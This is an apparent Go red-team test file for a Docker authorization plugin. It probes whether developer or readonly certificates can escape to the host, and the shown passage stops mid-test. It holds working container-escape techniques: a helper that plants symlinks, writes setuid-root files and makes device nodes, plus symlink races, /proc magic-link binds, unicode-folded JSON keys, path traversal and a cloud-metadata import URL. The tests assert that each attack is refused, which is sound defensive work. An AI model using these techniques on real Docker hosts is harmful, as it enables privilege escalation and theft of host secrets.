package cmd

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/dtls-tool/dtls/internal/atomicfile"
	"github.com/dtls-tool/dtls/internal/cahost/authority"
	"github.com/dtls-tool/dtls/internal/sandbox"
)

// toolSource is a static program the attack containers run: it plants
// links, writes set-user-ID files and device nodes in a workspace, and
// reports what it can read.
const toolSource = `package main

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"syscall"
	"time"
)

func main() {
	switch os.Args[1] {
	case "sleep":
		time.Sleep(time.Hour)
	case "relink": // relink LINK TARGET PROBE OUT: once PROBE is readable, copy it to OUT; else point LINK at TARGET and fail
		if b, err := os.ReadFile(os.Args[4]); err == nil {
			_ = os.WriteFile(os.Args[5], b, 0o644)
			time.Sleep(time.Hour)
		}
		_ = os.Remove(os.Args[2])
		if err := os.Symlink(os.Args[3], os.Args[2]); err != nil {
			fmt.Println(err)
		}
		os.Exit(1)
	case "suid": // suid DST: a set-user-ID root copy of this program
		b, _ := os.ReadFile("/tool")
		if err := os.WriteFile(os.Args[2], b, 0o755); err != nil {
			fmt.Println(err)
			os.Exit(1)
		}
		_ = os.Chown(os.Args[2], 0, 0)
		if err := syscall.Chmod(os.Args[2], 0o4755); err != nil {
			fmt.Println(err)
			os.Exit(1)
		}
	case "plant": // plant PATH TARGET: make PATH a link to TARGET in this container's own file system, and stay
		_ = os.MkdirAll(filepath.Dir(os.Args[2]), 0o755)
		if err := os.Symlink(os.Args[3], os.Args[2]); err != nil {
			fmt.Println(err)
			os.Exit(1)
		}
		time.Sleep(time.Hour)
	case "ln": // ln TARGET PATH
		if err := os.Symlink(os.Args[2], os.Args[3]); err != nil {
			fmt.Println(err)
			os.Exit(1)
		}
	case "relay": // relay SRC DST: copy SRC to DST as soon as it appears
		for i := 0; i < 1200; i++ {
			if b, err := os.ReadFile(os.Args[2]); err == nil {
				_ = os.WriteFile(os.Args[3], b, 0o644)
				break
			}
			time.Sleep(50 * time.Millisecond)
		}
		time.Sleep(time.Hour)
	case "cp": // cp SRC DST
		b, err := os.ReadFile(os.Args[2])
		if err == nil {
			err = os.WriteFile(os.Args[3], b, 0o600)
		}
		if err != nil {
			fmt.Println(err)
			os.Exit(1)
		}
	case "flip": // flip LINK A B: point LINK at A and B in turn, forever
		tmp := os.Args[2] + ".tmp"
		for i := 0; ; i++ {
			_ = os.Remove(tmp)
			_ = os.Symlink(os.Args[3+i%2], tmp)
			_ = os.Rename(tmp, os.Args[2])
		}
	case "euid":
		fmt.Println(os.Geteuid())
	case "mknod": // mknod PATH b|c MAJOR MINOR
		maj, _ := strconv.Atoi(os.Args[4])
		min, _ := strconv.Atoi(os.Args[5])
		mode := uint32(syscall.S_IFBLK)
		if os.Args[3] == "c" {
			mode = syscall.S_IFCHR
		}
		syscall.Umask(0)
		if err := syscall.Mknod(os.Args[2], mode|0o666, maj<<8|min); err != nil {
			fmt.Println(err)
			os.Exit(1)
		}
	case "read": // read PATH N: the first N bytes, hex
		f, err := os.Open(os.Args[2])
		if err != nil {
			fmt.Println(err)
			os.Exit(1)
		}
		n, _ := strconv.Atoi(os.Args[3])
		b := make([]byte, n)
		k, err := io.ReadFull(f, b)
		fmt.Printf("%d %v %x\n", k, err, b[:k])
	}
}
`

func buildTool(t *testing.T) string { return buildStatic(t, "tool", toolSource) }

// rawClient speaks the Docker API over TLS with a bundle, to send what the
// docker CLI never sends.
func rawClient(t *testing.T, bundle string) *http.Client {
	t.Helper()
	ca, err := os.ReadFile(filepath.Join(bundle, "ca.pem"))
	require.NoError(t, err)
	pool := x509.NewCertPool()
	require.True(t, pool.AppendCertsFromPEM(ca))
	cert, err := tls.LoadX509KeyPair(filepath.Join(bundle, "cert.pem"), filepath.Join(bundle, "key.pem"))
	require.NoError(t, err)
	return &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{
		TLSClientConfig: &tls.Config{RootCAs: pool, Certificates: []tls.Certificate{cert}, ServerName: "127.0.0.1"},
	}}
}

// startAuthzPluginHiding is startAuthzPlugin in a mount namespace of its
// own where hidden is an empty tmpfs, as systemd's ProtectHome= and
// PrivateTmp= leave /root, /home, /run/user and /tmp to the installed
// plugin (authority/authz.go, dtls-authz.service).
func startAuthzPluginHiding(t *testing.T, state, dir, hidden string) *authzPlugin {
	t.Helper()
	// A name of its own: the red team tests run in parallel.
	p := &authzPlugin{
		Policy: filepath.Join(dir, "authz-policy.json"),
		Audit:  filepath.Join(dir, "authz.log"),
		out:    &bytes.Buffer{},
	}
	p.Name, p.Socket = sandbox.PluginSocket("authz-redteam")
	t.Cleanup(sandbox.ClaimHostDirs())
	require.NoError(t, os.MkdirAll(pluginDir, 0o755))
	require.NoError(t, os.WriteFile(p.Policy, []byte(`{"default_role": "readonly"}`+"\n"), 0o644))
	p.cmd = exec.Command("unshare", "--mount", "--propagation", "private", "--", "/bin/sh", "-c",
		`mount -t tmpfs -o mode=000 redteam "$0" && exec "$@"`, hidden,
		dtlsExe(t), "authz", "serve", "--socket", p.Socket, "--state-dir", state,
		"--policy", p.Policy, "--audit-log", p.Audit, "--daemon-json", filepath.Join(dir, "daemon.json"))
	p.cmd.Stdout, p.cmd.Stderr = p.out, p.out
	require.NoError(t, p.cmd.Start())
	t.Cleanup(func() {
		_ = p.cmd.Process.Signal(syscall.SIGTERM)
		_ = p.cmd.Wait()
		os.Remove(p.Socket)
	})
	deadline := time.Now().Add(20 * time.Second)
	for {
		err := authority.ProbeAuthz(p.Socket, time.Second)
		if err == nil {
			return p
		}
		if time.Now().After(deadline) {
			t.Fatalf("plugin did not come up: %v\n%s", err, p.out.String())
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestRedTeamAuthz tries shapes of requests a developer or readonly
// certificate holder could send to become root on the host, read another
// identity's secrets or act on another identity's objects. Shapes the
// plugin refuses are regression checks; each shape that gets through
// fails its own subtest named Attack_*: each was a way in, now closed.
func TestRedTeamAuthz(t *testing.T) {
	t.Parallel()
	docker := dockerCLI(t)
	dir, port, initArgs := authzSandbox(t)
	state, daemonJSON := filepath.Join(dir, "state"), filepath.Join(dir, "daemon.json")
	now := time.Now()
	var stderr string
	var code int
	bundles := filepath.Join(dir, "bundles")
	for name, role := range map[string]string{"root-admin": "admin", "rita": "readonly", "dev": "developer"} {
		_, stderr, code := dtls(t, now, "issue-client", name, "--role", role, "--state-dir", state, "--out", filepath.Join(bundles, name))
		require.Equal(t, 0, code, stderr)
	}
	// A host directory the plugin's systemd unit hides from it:
	// dtls-authz.service has ProtectHome=yes (/home, /root, /run/user
	// empty) and PrivateTmp=yes (its own /tmp, /var/tmp), so the plugin
	// resolves host paths in another view of the file system than
	// dockerd's. The plugin runs here in a mount namespace where hidden
	// is an empty directory, as /root/.ssh is to the installed plugin.
	hidden, err := os.MkdirTemp("", "dtls-redteam-hidden-")
	require.NoError(t, err)
	t.Cleanup(func() { os.RemoveAll(hidden) })
	require.NoError(t, os.MkdirAll(filepath.Join(hidden, "vault"), 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(hidden, "vault", "id_rsa"), []byte("hidden-secret-77\n"), 0o600))
	// Workspaces (made before the plugin, which runs in a mount namespace
	// of its own): dev's is owned by uid 65534, standing for dev's own
	// account on the host (README: install -d -o alice -m 0700).
	// The workspaces' file system is nosuid,nodev, as a bind root's must
	// be (README).
	work, err := os.MkdirTemp("", "dtls-redteam-")
	require.NoError(t, err)
	t.Cleanup(func() { os.RemoveAll(work) })
	require.NoError(t, unix.Mount("tmpfs", work, "tmpfs", unix.MS_NOSUID|unix.MS_NODEV, "size=64m,mode=0755"))
	t.Cleanup(func() { _ = unix.Unmount(work, unix.MNT_DETACH) })
	ws := filepath.Join(work, "dev")
	require.NoError(t, os.MkdirAll(filepath.Join(ws, "real"), 0o755))
	require.NoError(t, os.Chown(ws, 65534, 65534))
	plugin := startAuthzPluginHiding(t, state, dir, hidden)
	_, stderr, code = dtls(t, now, append(initArgs, "--authz", "--authz-socket", plugin.Socket)...)
	require.Equal(t, 0, code, stderr)
	d, err := sandbox.Start(context.Background(), dir, daemonJSON)
	require.NoError(t, err)
	t.Cleanup(func() { assert.NoError(t, d.Stop()) })
	require.NoError(t, d.TinyImage(context.Background(), "tiny:1"))
	importImage(t, d, "tool:1", map[string]string{"tool": buildTool(t)})

	// A host secret outside every bind root.
	secretDir, err := os.MkdirTemp("", "dtls-redteam-secret-")
	require.NoError(t, err)
	t.Cleanup(func() { os.RemoveAll(secretDir) })
	secret := filepath.Join(secretDir, "shadow")
	require.NoError(t, os.WriteFile(secret, []byte("host-secret-42\n"), 0o600))

	pol := fmt.Sprintf(`{"default_role": "readonly", "bind_roots": [%q]}`, filepath.Join(work, "{user}"))
	require.NoError(t, atomicfile.Write(plugin.Policy, []byte(pol), 0o644))

	as := func(name string, args ...string) (string, error) {
		return runDocker(t, docker, []string{fmt.Sprintf("DOCKER_HOST=tcp://127.0.0.1:%d", port), "DOCKER_TLS_VERIFY=1",
			"DOCKER_CERT_PATH=" + filepath.Join(bundles, name)}, args...)
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		out, err := as("dev", "create", "-v", ws+":/ws", "tiny:1", "/x")
		if err == nil {
			break
		}
		require.True(t, time.Now().Before(deadline), "the policy with bind roots was not loaded: %s", out)
		time.Sleep(50 * time.Millisecond)
	}
	must := func(name string, args ...string) string {
		t.Helper()
		out, err := as(name, args...)
		require.NoError(t, err, "%s: docker %s: %s", name, strings.Join(args, " "), out)
		return strings.TrimSpace(out)
	}
	clients := map[string]*http.Client{}
	for _, n := range []string{"root-admin", "rita", "dev"} {
		clients[n] = rawClient(t, filepath.Join(bundles, n))
	}
	base := fmt.Sprintf("https://127.0.0.1:%d", port)
	raw := func(name, method, path, ctype string, body io.Reader, hdr map[string]string) (int, string) {
		t.Helper()
		req, err := http.NewRequest(method, base+path, body)
		require.NoError(t, err)
		if ctype != "" {
			req.Header.Set("Content-Type", ctype)
		}
		for k, v := range hdr {
			req.Header.Set(k, v)
		}
		resp, err := clients[name].Do(req)
		require.NoError(t, err)
		defer resp.Body.Close()
		b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
		return resp.StatusCode, strings.TrimSpace(string(b))
	}

	// Objects of the admin: a container with a secret in its command
	// line and environment, an exec with a secret, a network, an image.
	adminBox := must("root-admin", "run", "-d", "--name", "adminbox", "-e", "DB_PASSWORD=env-secret-1", "tool:1", "/tool", "sleep", "--token=cmdline-secret-2")
	must("root-admin", "exec", "-d", "adminbox", "/tool", "sleep", "--exec-token=exec-secret-3")
	adminExec := strings.Fields(must("root-admin", "inspect", "-f", `{{join .ExecIDs " "}}`, "adminbox"))[0]
	must("root-admin", "network", "create", "--internal", "adminnet")
	must("root-admin", "volume", "create", "adminvol")
	must("root-admin", "create", "--name", "adminstopped", "-v", "/etc:/host-etc", "tool:1", "/tool", "sleep")
	must("dev", "run", "-d", "--name", "devbox", "tool:1", "/tool", "sleep")

	// Refused shapes (regression): logged with the plugin's message.
	type shape struct {
		name, user string
		args       []string
	}
	for _, s := range []shape{
		{"exec into admin's container by ID prefix", "dev", []string{"exec", "-d", adminBox[:6], "/tool", "sleep"}},
		{"kill admin's container by ID prefix", "dev", []string{"kill", adminBox[:8]}},
		{"start admin's stopped container", "dev", []string{"start", "adminstopped"}},
		{"logs of admin's container by leading slash", "dev", []string{"logs", "/adminbox"}},
		{"wait on admin's container", "dev", []string{"wait", "adminbox"}},
		{"top of admin's container (readonly)", "rita", []string{"top", "adminbox"}},
		{"inspect admin's container (readonly)", "rita", []string{"inspect", "adminbox"}},
		{"attach to admin's container", "dev", []string{"attach", "--no-stdin", "adminbox"}},
		{"cp out of admin's container", "dev", []string{"cp", "adminbox:/tool", "-"}},
		{"export admin's container", "dev", []string{"export", "adminbox"}},
		{"commit admin's container", "dev", []string{"commit", "adminbox", "stolen:1"}},
		{"tag an image", "dev", []string{"tag", "tool:1", "tiny:1"}},
		{"update restart policy of admin's container", "dev", []string{"update", "--restart", "always", "adminbox"}},
		{"volumes-from admin's with :ro", "dev", []string{"create", "--volumes-from", "adminstopped:ro", "tiny:1", "/x"}},
		{"link to admin's container", "dev", []string{"create", "--link", "adminbox:db", "tiny:1", "/x"}},
		{"ipc of admin's container", "dev", []string{"create", "--ipc", "container:adminbox", "tiny:1", "/x"}},
		{"userns host", "dev", []string{"create", "--userns", "host", "tiny:1", "/x"}},
		{"security-opt seccomp unconfined", "dev", []string{"create", "--security-opt", "seccomp=unconfined", "tiny:1", "/x"}},
		{"security-opt apparmor:unconfined (colon form)", "dev", []string{"create", "--security-opt", "apparmor:unconfined", "tiny:1", "/x"}},
		{"security-opt systempaths=unconfined", "dev", []string{"create", "--security-opt", "systempaths=unconfined", "tiny:1", "/x"}},
		{"device", "dev", []string{"create", "--device", "/dev/vda", "tiny:1", "/x"}},
		{"device cgroup rule", "dev", []string{"create", "--device-cgroup-rule", "b *:* rwm", "tiny:1", "/x"}},
		{"mount of admin's volume", "dev", []string{"create", "--mount", "type=volume,src=adminvol,dst=/x", "tiny:1", "/x"}},
		{"-v admin's volume", "dev", []string{"create", "-v", "adminvol:/x", "tiny:1", "/x"}},
		{"bind with trailing slash to /etc link", "dev", []string{"create", "-v", "/etc/:/x", "tiny:1", "/x"}},
		{"bind of workspace parent", "dev", []string{"create", "-v", work + ":/x", "tiny:1", "/x"}},
		{"--mount type=bind of /proc", "dev", []string{"create", "--mount", "type=bind,src=/proc,dst=/x", "tiny:1", "/x"}},
		{"volume o=BIND (uppercase) device=/etc", "dev", []string{"volume", "create", "--opt", "type=none", "--opt", "o=BIND", "--opt", "device=/etc", "v1"}},
		{"volume o=' bind' device=/etc", "dev", []string{"volume", "create", "--opt", "type=none", "--opt", "o=ro, bind", "--opt", "device=/etc", "v2"}},
		{"volume o=rbind,rw device relative", "dev", []string{"volume", "create", "--opt", "type=none", "--opt", "o=rbind,rw", "--opt", "device=etc", "v3"}},
		{"volume type=overlay lowerdir=/etc", "dev", []string{"volume", "create", "--opt", "type=overlay", "--opt", "o=lowerdir=/etc,upperdir=" + ws + "/u,workdir=" + ws + "/w", "--opt", "device=overlay", "v4"}},
		{"volume type=ext4 device=/dev/vda", "dev", []string{"volume", "create", "--opt", "type=ext4", "--opt", "device=/dev/vda", "v5"}},
		{"volume create with admin's name", "dev", []string{"volume", "create", "adminvol"}},
		{"network with bridge name docker0", "dev", []string{"network", "create", "-o", "com.docker.network.bridge.name=docker0", "n1"}},
		{"network macvlan", "dev", []string{"network", "create", "-d", "macvlan", "n2"}},
		{"rm admin's network", "dev", []string{"network", "rm", "adminnet"}},
		{"log driver syslog", "dev", []string{"create", "--log-driver", "syslog", "tiny:1", "/x"}},
		{"json-file log option path", "dev", []string{"create", "--log-opt", "path=/etc/x", "tiny:1", "/x"}},
		{"runtime", "dev", []string{"create", "--runtime", "io.containerd.runtime.v1.linux", "tiny:1", "/x"}},
		{"import from URL", "dev", []string{"import", "http://169.254.169.254/latest/meta-data", "x:1"}},
		{"readonly creates", "rita", []string{"create", "tiny:1", "/x"}},
		{"readonly logs own-less container", "rita", []string{"logs", "devbox"}},
	} {
		out, err := as(s.user, s.args...)
		if err == nil {
			t.Errorf("BYPASS %s: %s docker %s was allowed: %s", s.name, s.user, strings.Join(s.args, " "), out)
			continue
		}
		msg := strings.TrimSpace(out)
		assert.Contains(t, msg, "dtls-authz", "%s: refused, but not by the plugin: %s", s.name, msg)
		t.Logf("denied  %-50s %s", s.name, tailString(msg, 220))
	}

	// Raw request shapes the CLI never sends.
	type rawShape struct {
		name, user, method, path, ctype, body string
		hdr                                   map[string]string
		chunked                               bool
	}
	for _, s := range []rawShape{
		{name: "top-level Privileged with HostConfig null", user: "dev", method: "POST", path: "/v1.41/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","Cmd":["/x"],"HostConfig":null,"Privileged":true}`},
		{name: "top-level Binds only", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","Binds":["/etc:/x"]}`},
		{name: "lowercase hostconfig binds", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","hostconfig":{"binds":["/etc:/x"]}}`},
		{name: "long-s folded Bind\u017f", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","HostConfig":{"Bind\u017f":["/etc:/x"]}}`},
		{name: "kelvin-folded Lin\u212as to admin's", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","HostConfig":{"Lin\u212as":["adminbox:db"]}}`},
		{name: "long-s in Mounts Type/Source", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","HostConfig":{"Mounts":[{"Type":"bind","\u017fource":"/etc","Target":"/x"}]}}`},
		{name: "duplicate HostConfig, second benign", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","HostConfig":{"Privileged":true},"HostConfig":{"Memory":1}}`},
		{name: "trailing second JSON value", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1"} {"HostConfig":{"Privileged":true}}`},
		{name: "chunked create body", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","HostConfig":{"Privileged":true}}`, chunked: true},
		{name: "Content-Type with charset", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json; charset=utf-8",
			body: `{"Image":"tiny:1","HostConfig":{"Privileged":true}}`},
		{name: "Content-Type text/plain", user: "dev", method: "POST", path: "/containers/create", ctype: "text/plain",
			body: `{"Image":"tiny:1","HostConfig":{"Privileged":true}}`},
		{name: "API 1.23 start with HostConfig body", user: "dev", method: "POST", path: "/v1.23/containers/devbox/start", ctype: "application/json",
			body: `{"Privileged":true,"Binds":["/:/host"]}`},
		{name: "API version 1.24.0", user: "dev", method: "POST", path: "/v1.24.0/containers/create", ctype: "application/json", body: `{"Image":"tiny:1"}`},
		{name: "percent-encoded exec into admin's", user: "dev", method: "POST", path: "/containers/%61dminbox/exec", ctype: "application/json",
			body: `{"Cmd":["/tool","sleep"]}`},
		{name: "exec path with dot segment", user: "dev", method: "POST", path: "/containers/devbox/../adminbox/exec", ctype: "application/json",
			body: `{"Cmd":["/tool","sleep"]}`},
		{name: "encoded slash in ref", user: "dev", method: "POST", path: "/containers/devbox%2F..%2Fadminbox/kill", ctype: "", body: ``},
		{name: "forged lookup header over TCP", user: "dev", method: "POST", path: "/containers/adminbox/kill", hdr: map[string]string{"X-Dtls-Authz-Lookup": "x"}},
		{name: "NetworkMode host by ID prefix", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","HostConfig":{"NetworkMode":"HOSTID"}}`},
		{name: "EndpointsConfig host network", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","NetworkingConfig":{"EndpointsConfig":{"host":{}}}}`},
		{name: "UTSMode container: of admin's by ID prefix", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","HostConfig":{"UTSMode":"container:ADMINID"}}`},
		{name: "VolumesFrom admin's at top level, HostConfig empty", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","HostConfig":{},"VolumesFrom":["adminstopped"]}`},
		{name: "Mounts type volume, admin's volume, odd case type", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","HostConfig":{"Mounts":[{"Type":"Volume","Source":"adminvol","Target":"/x"}]}}`},
		{name: "anonymous volume with bind DriverConfig", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","HostConfig":{"Mounts":[{"Type":"volume","Target":"/x","VolumeOptions":{"DriverConfig":{"Name":"local","Options":{"type":"none","o":"bind","device":"/etc"}}}}]}}`},
		{name: "exec start of admin's exec ID", user: "dev", method: "POST", path: "/exec/ADMINEXEC/start", ctype: "application/json", body: `{"Detach":true}`},
		{name: "exec inspect of admin's exec ID (readonly)", user: "rita", method: "GET", path: "/exec/ADMINEXEC/json"},
		{name: "exec resize of admin's exec ID", user: "dev", method: "POST", path: "/exec/ADMINEXEC/resize?h=1&w=1"},
		{name: "network connect of admin's container to dev's", user: "dev", method: "POST", path: "/networks/bridge/connect", ctype: "application/json", body: `{"Container":"adminbox"}`},
		{name: "network disconnect of admin's container", user: "dev", method: "POST", path: "/networks/adminnet/disconnect", ctype: "application/json", body: `{"Container":"adminbox","Force":true}`},
		{name: "Cpuset (deprecated top level)", user: "dev", method: "POST", path: "/containers/create", ctype: "application/json",
			body: `{"Image":"tiny:1","Cpuset":"0"}`},
		{name: "exec json of admin's container exec (readonly)", user: "rita", method: "GET", path: "/containers/adminbox/json"},
		{name: "pull with form body", user: "dev", method: "POST", path: "/images/create?fromImage=tiny&tag=1", ctype: "application/x-www-form-urlencoded",
			body: `fromSrc=http://169.254.169.254/&repo=tool&tag=1`},
	} {
		var body io.Reader
		if s.body != "" {
			body = strings.NewReader(s.body)
			if s.chunked {
				body = io.MultiReader(strings.NewReader(s.body)) // unknown length: chunked
			}
		}
		path := s.path
		if strings.Contains(s.body, "HOSTID") {
			status, out := raw("root-admin", "GET", "/networks/host", "", nil, nil)
			require.Equal(t, 200, status, out)
			var n struct {
				ID string `json:"Id"`
			}
			require.NoError(t, json.Unmarshal([]byte(out), &n))
			body = strings.NewReader(strings.ReplaceAll(s.body, "HOSTID", n.ID[:10]))
		}
		if strings.Contains(s.body, "ADMINID") {
			body = strings.NewReader(strings.ReplaceAll(s.body, "ADMINID", adminBox[:12]))
		}
		path = strings.ReplaceAll(path, "ADMINEXEC", adminExec)
		status, out := raw(s.user, s.method, path, s.ctype, body, s.hdr)
		if status/100 == 2 {
			t.Errorf("BYPASS %s: %s %s %s answered %d: %s", s.name, s.method, s.path, s.user, status, tailString(out, 300))
			continue
		}
		t.Logf("refused %-50s %d %s", s.name, status, tailString(out, 220))
	}

	// Attack: a restart policy restarts a container without an API
	// call, so nothing judges its bind sources again: the container
	// points a link in its own workspace at the host's / and exits;
	// dockerd mounts the host's / at the next start.
	t.Run("Attack_restart_policy_remounts_relinked_bind_source", func(t *testing.T) {
		link := filepath.Join(ws, "link")
		require.NoError(t, os.Symlink(filepath.Join(ws, "real"), link))
		out, err := as("dev", "run", "-d", "--restart", "on-failure:5", "-v", link+":/mnt", "-v", ws+":/ws",
			"tool:1", "/tool", "relink", "/ws/link", "/", "/mnt"+secret, "/ws/stolen")
		if err != nil {
			// Closed: only a bind root itself is mounted, never a path
			// below it that a container could relink.
			assert.Contains(t, out, "only a bind root itself may be mounted")
			return
		}
		stolen := filepath.Join(ws, "stolen")
		deadline := time.Now().Add(30 * time.Second)
		for time.Now().Before(deadline) {
			if _, err := os.Stat(stolen); err == nil {
				break
			}
			time.Sleep(100 * time.Millisecond)
		}
		b, _ := os.ReadFile(stolen)
		assert.NotContains(t, string(b), "host-secret-42", "the developer's container read a host file outside every bind root: the host's / was mounted")
		_, _ = as("root-admin", "rm", "-f", strings.TrimSpace(out))
	})

	// Attack: a link in the workspace to a path the plugin's own
	// sandbox hides (ProtectHome=yes: /root/.ssh, /home/admin; PrivateTmp:
	// /tmp) does not resolve for the plugin, which then judges the link's
	// own path, under the bind root; dockerd follows the link.
	t.Run("Attack_link_to_path_hidden_from_plugin_by_its_unit", func(t *testing.T) {
		link := filepath.Join(ws, "hidden")
		require.NoError(t, os.Symlink(filepath.Join(hidden, "vault"), link))
		out, err := as("dev", "run", "--rm", "-v", link+":/loot", "tool:1", "/tool", "read", "/loot/id_rsa", "16")
		t.Logf("dev: docker run -v %s:/loot (-> %s): err=%v %s", link, filepath.Join(hidden, "vault"), err, tailString(out, 200))
		assert.Error(t, err, "the plugin allowed a bind of a link whose target it cannot see")
		assert.NotContains(t, out, fmt.Sprintf("%x", "hidden-secret-77"[:16]), "the developer's container read a host file outside every bind root")
	})

	// Attack: /proc/PID/root of the developer's own container is a magic
	// link; Go's EvalSymlinks reads it as "/" (readlink), the kernel
	// enters the container's root file system, where the rest of the
	// path is a link the container made to "/", resolved against the
	// host's root. The plugin judges a path under the bind root; dockerd
	// mounts the host's /.
	t.Run("Attack_magic_proc_root_link", func(t *testing.T) {
		real := filepath.Join(ws, "real")
		planter := must("dev", "run", "-d", "tool:1", "/tool", "plant", real, "/")
		pid := must("dev", "inspect", "-f", "{{.State.Pid}}", planter)
		target := "/proc/" + pid + "/root" + real
		must("dev", "run", "--rm", "-v", ws+":/ws", "tool:1", "/tool", "ln", target, "/ws/magic")
		out, err := as("dev", "run", "--rm", "-v", filepath.Join(ws, "magic")+":/mnt", "tool:1", "/tool", "read", "/mnt"+secret, "14")
		t.Logf("dev: docker run -v %s:/mnt (-> %s): err=%v %s", filepath.Join(ws, "magic"), target, err, tailString(out, 300))
		assert.Error(t, err, "a link below the bind root was mounted")
		assert.NotContains(t, out, fmt.Sprintf("%x", "host-secret-42"), "the developer's container read a host file outside every bind root: the host's / was mounted")
		_, _ = as("dev", "rm", "-f", planter)
	})

	// Attack: the check of a start and dockerd's mount are apart; a
	// container of the developer flips a link in the workspace between a
	// directory of the workspace and "/", and the developer starts a
	// container bound to the link until one start is judged on the first
	// and mounts the second. README calls this window an instant; here
	// it is won within seconds.
	t.Run("Attack_start_races_a_flipping_link", func(t *testing.T) {
		flipper := must("dev", "run", "-d", "-v", ws+":/ws", "tool:1", "/tool", "flip", "/ws/race", filepath.Join(ws, "real"), "/")
		defer func() { _, _ = as("dev", "rm", "-f", flipper) }()
		var victim string
		deadline := time.Now().Add(60 * time.Second)
		for i := 0; victim == "" && i < 20; i++ {
			out, err := as("dev", "create", "-v", filepath.Join(ws, "race")+":/mnt", "tool:1", "/tool", "read", "/mnt"+secret, "14")
			if err == nil {
				victim = strings.TrimSpace(out)
			} else {
				// Closed: a path below a bind root is never mounted,
				// whatever it is at the moment of the check (here "/"
				// or a directory of the workspace).
				assert.Regexp(t, `only a bind root itself may be mounted|the host's whole file system`, out)
			}
		}
		if victim == "" {
			return
		}
		want := fmt.Sprintf("%x", "host-secret-42")
		tries, allowed, won := 0, 0, false
		for !won && time.Now().Before(deadline) {
			tries++
			out, err := as("dev", "start", "-a", victim)
			if err == nil || !strings.Contains(out, "dtls-authz") {
				allowed++
			}
			won = strings.Contains(out, want)
		}
		t.Logf("%d starts, %d allowed by the plugin, host / mounted: %v", tries, allowed, won)
		assert.False(t, won, "a start judged on the link's safe target mounted the host's /")
	})

	// Attack: a reference is resolved twice, by the plugin (through
	// dockerd) and then by dockerd's handler, whose order is full ID,
	// name, unique ID prefix. The developer names its own container
	// after a prefix of the admin's container's ID, asks for an exec in
	// it, and renames it at the same time: judged on the developer's
	// container by name, the exec is made in the admin's by prefix, and
	// recorded as the developer's.
	t.Run("Attack_exec_races_a_rename_to_an_admins_id_prefix", func(t *testing.T) {
		try := func(method, path, body string) (int, string) {
			var rd io.Reader
			if body != "" {
				rd = strings.NewReader(body)
			}
			req, err := http.NewRequest(method, base+path, rd)
			if err != nil {
				return 0, err.Error()
			}
			if body != "" {
				req.Header.Set("Content-Type", "application/json")
			}
			resp, err := clients["dev"].Do(req)
			if err != nil {
				return 0, err.Error()
			}
			defer resp.Body.Close()
			b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
			return resp.StatusCode, string(b)
		}
		prefix := adminBox[:12]
		deadline := time.Now().Add(40 * time.Second)
		tries, won := 0, false
		for !won && time.Now().Before(deadline) {
			tries++
			if st, out := try("POST", "/containers/create?name="+prefix, `{"Image":"tool:1","Cmd":["/tool","sleep"]}`); st != 201 {
				// Closed first here: a name of hex digits only is
				// refused (and a reference that reads as an ID prefix
				// but names by name, below).
				assert.Contains(t, out, "hexadecimal digits only", "create %s: %d", prefix, st)
				break
			}
			if st, out := try("POST", "/containers/"+prefix+"/start", ""); st/100 != 2 {
				// Closed: a reference that reads as an ID prefix but
				// names a container by its name is refused, since a
				// rename makes it name another's by prefix.
				assert.Contains(t, out, "also reads as an ID prefix", "start %s: %d", prefix, st)
				try("DELETE", "/containers/"+prefix+"?force=1", "")
				break
			}
			done := make(chan struct{})
			var execStatus int
			var execOut string
			go func() {
				execStatus, execOut = try("POST", "/containers/"+prefix+"/exec", `{"Cmd":["/tool","euid"]}`)
				close(done)
			}()
			time.Sleep(time.Duration(tries%8) * 250 * time.Microsecond)
			try("POST", "/containers/"+prefix+"/rename?name="+prefix+"-old", "")
			<-done
			if execStatus == 201 {
				var e struct {
					ID string `json:"Id"`
				}
				_ = json.Unmarshal([]byte(execOut), &e)
				st, out := try("GET", "/exec/"+e.ID+"/json", "")
				if st == 200 && strings.Contains(out, adminBox) {
					won = true
					t.Logf("try %d: exec %s, allowed to the developer, is in the admin's container: %s", tries, e.ID, tailString(out, 200))
					st, out = try("POST", "/exec/"+e.ID+"/start", `{"Detach":true}`)
					t.Logf("the developer starts it: %d %s", st, out)
				}
			}
			try("DELETE", "/containers/"+prefix+"-old?force=1", "")
			try("DELETE", "/containers/"+prefix+"?force=1", "")
		}
		t.Logf("%d tries", tries)
		assert.False(t, won, "the developer made an exec in the admin's container")
	})

	// Attack: a developer's container runs as root and writes its
	// workspace, a host directory; a set-user-ID root file written there
	// is root for the developer's own account on the host.
	t.Run("Attack_setuid_root_file_in_workspace", func(t *testing.T) {
